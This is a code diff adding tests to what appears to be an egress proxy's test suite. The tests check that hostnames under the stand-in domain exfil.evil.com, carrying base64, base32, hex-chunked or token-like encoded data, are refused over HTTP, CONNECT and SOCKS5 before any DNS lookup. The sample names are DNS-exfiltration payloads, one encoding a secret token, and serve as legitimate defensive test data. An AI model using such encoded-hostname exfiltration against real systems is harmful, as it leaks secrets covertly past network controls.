@@ -54,6 +54,23 @@ void describe('egress proxy: names are scanned before they are resolved', () => 
     assert.deepEqual(lookups, []);
   });
 
+  // Names whose encoding is told by the case the client wrote (base64 of text, upper-case base32), and case-free
+  // chains (dotted hex, equal chunks): refused on every path, before any lookup.
+  const CASED = ['c2VjcmV0X3Rva2VuXzEyMzQ1Njc4OTA.exfil.evil.com', 'JBSWY3DPEHPK3PXP.exfil.evil.com', 'a1b2c3d4.e5f6a7b8.c9d0e1f2.a3b4c5d6.exfil.evil.com', 'ghp-xxxx.yyyyzzzz.aaaabbbb.ccccdddd.exfil.evil.com'];
+  for (const name of CASED) {
+    void it(`${name.slice(0, 24)}…: plain HTTP, CONNECT and SOCKS5 refused, no lookup`, async () => {
+      const r = await viaProxy(p.port, 'GET', `http://${name}:${up.port}/ping`);
+      assert.equal(r.status, 403, r.body);
+      const c = await raw(p.port, `CONNECT ${name}:443 HTTP/1.1\r\nHost: ${name}:443\r\n\r\n`);
+      assert.match(c.data.toString('latin1'), /^HTTP\/1\.1 403 /);
+      const bytes = Buffer.from(name);
+      const s = await raw(p.socksPort, Buffer.concat([Buffer.from([5, 1, 0]), Buffer.from([5, 1, 0, 3, bytes.length]), bytes, Buffer.from([1, 187])]));
+      assert.notEqual(s.data[3], 0, 'the SOCKS reply is not success');
+      assert.deepEqual(lookups, []);
+      assert.deepEqual(up.seen, []);
+    });
+  }
+
   void it('a plain name is still resolved and reached (control)', async () => {
     const r = await viaProxy(p.port, 'GET', `http://api.example.test:${up.port}/ok`);
     assert.equal(r.status, 200, r.body);
